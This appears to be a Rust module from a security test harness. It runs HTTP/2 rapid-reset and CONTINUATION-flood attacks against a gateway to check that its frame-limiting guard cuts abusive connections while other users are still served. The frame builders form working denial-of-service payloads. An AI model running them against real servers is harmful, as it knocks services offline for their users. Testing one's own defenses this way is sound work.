//! Who sends more frames of HTTP/2 than requests. Kept small: what is looked for is the limit and not the damage.

use super::{
    Attack, AttackError, Guard, Observation, Position, Sign, Target,
    user_tokens::at_edge,
    wire::{Connection, Dial},
};
use crate::weak::Weakness;

const GUARD: Guard = Guard {
    what: "frames that are no requests are counted, and a connection that sends too many of them ends",
    home: "roles/gateway/src/listener.rs",
    signs: &[Sign::Fact],
    weakness: Weakness::AnyFrames,
};

pub(super) static ATTACKS: &[Attack] = &[
    Attack {
        name: "rapid-reset",
        title: "begin requests over HTTP/2 and take each back at once",
        from: &["HP-4", "lesson 59"],
        position: Position::Stranger,
        guard: GUARD,
        waits: false,
        run: |target| Box::pin(flood(target, "HEADERS and RST_STREAM, 2,000 times", rapid_reset())),
    },
    Attack {
        name: "continuation-flood",
        title: "send a head over HTTP/2 that never comes to an end",
        from: &["HP-4", "lesson 59"],
        position: Position::Stranger,
        guard: GUARD,
        waits: false,
        run: |target| Box::pin(flood(target, "HEADERS and 400 CONTINUATION of 1 KiB each", continuation())),
    },
];

/// Does the connection survive it? A PING behind the flood is answered by whoever is still there.
async fn flood(target: &Target, what: &str, frames: Vec<u8>) -> Result<Observation, AttackError> {
    let (mut beside, token) = at_edge(target).await?;
    let dial = Dial { speaks: b"h2", ..target.dial_edge() };
    let lost = |why: String| AttackError::NoConnection { what: "the edge".to_owned(), why };
    let mut connection = dial.connect().await.map_err(|broken| lost(broken.how))?;
    connection.write(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).await.map_err(|b| lost(b.how))?;
    connection.write(&frame(PING, 0, 0, b"honestly")).await.map_err(|broken| lost(broken.how))?;
    if !ended_or_answered(&mut connection, b"honestly").await.is_alive {
        return Err(AttackError::HonestRefused { answer: "no answer to a ping".to_owned() });
    }
    // Whoever is cut off while it still writes was cut off.
    let _ = connection.write(&frames).await;
    let _ = connection.write(&frame(PING, 0, 0, b"anyone? ")).await;
    let seen = ended_or_answered(&mut connection, b"anyone? ").await;
    let honest = beside.send(&super::user_tokens::bearing(&token)).await;
    let honest = target.observed("", honest).await;
    if !honest.is_believed() {
        return Ok(Observation::looked(what, false, format!("others are not served: {}", honest.told())));
    }
    Ok(Observation::looked(what, !seen.is_alive, format!("{}; others are served", seen.how)))
}

struct Seen {
    is_alive: bool,
    how: String,
}

async fn ended_or_answered(connection: &mut Connection, ping: &[u8; 8]) -> Seen {
    let mut bytes = Vec::new();
    loop {
        while let Some((kind, flags, payload, length)) = first_frame(&bytes) {
            if kind == PING && flags & ACK != 0 && payload == ping {
                return Seen { is_alive: true, how: "all of it was taken".to_owned() };
            }
            if kind == GOAWAY && payload.get(4..8) != Some(&[0; 4]) {
                let code = payload.get(4..8).and_then(|code| code.try_into().ok()).map(u32::from_be_bytes);
                let how = format!("the connection was ended (GOAWAY, error {})", code.unwrap_or_default());
                return Seen { is_alive: false, how };
            }
            bytes.drain(..length);
        }
        match connection.read_some().await {
            Ok(more) if !more.is_empty() => bytes.extend(more),
            Ok(_) => return Seen { is_alive: false, how: "the connection was ended".to_owned() },
            Err(broken) => {
                // Silence is no end.
                let is_alive = broken.how.contains("timed out");
                return Seen { is_alive, how: format!("the connection was ended: {}", broken.how) };
            }
        }
    }
}

/// Kind, flags, payload and whole length.
fn first_frame(bytes: &[u8]) -> Option<(u8, u8, Vec<u8>, usize)> {
    let [a, b, c, kind, flags, _, _, _, _, rest @ ..] = bytes else { return None };
    let length = u32::from_be_bytes([0, *a, *b, *c]) as usize;
    let payload = rest.get(..length)?;
    Some((*kind, *flags, payload.to_vec(), FRAME_HEAD + length))
}

/// RFC 9113 section 4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, a, b, c] = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let head = [&[a, b, c, kind, flags][..], &stream.to_be_bytes()].concat();
    [&head[..], payload].concat()
}

fn rapid_reset() -> Vec<u8> {
    let streams = (0..2000_u32).map(|number| 2 * number + 1);
    let one = |stream| {
        let begun = frame(HEADERS, END_HEADERS | END_STREAM, stream, &head());
        [begun, frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())].concat()
    };
    streams.flat_map(one).collect()
}

fn continuation() -> Vec<u8> {
    let field = [&[0, 1, b'x', 0x7f, 0x80, 0x07][..], &[b'a'; 1023][..]].concat();
    let mut frames = frame(HEADERS, END_STREAM, 1, &head());
    for _ in 0..400 {
        frames.extend(frame(CONTINUATION, 0, 1, &field));
    }
    frames.extend(frame(CONTINUATION, END_HEADERS, 1, &[]));
    frames
}

/// `GET https://localhost/ads` in HPACK (RFC 7541 appendix A), nothing of it indexed.
fn head() -> Vec<u8> {
    [&[0x82, 0x87, 0x04, 4][..], b"/ads", &[0x01, 9], b"localhost"].concat()
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const FRAME_HEAD: usize = 9;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const ACK: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;
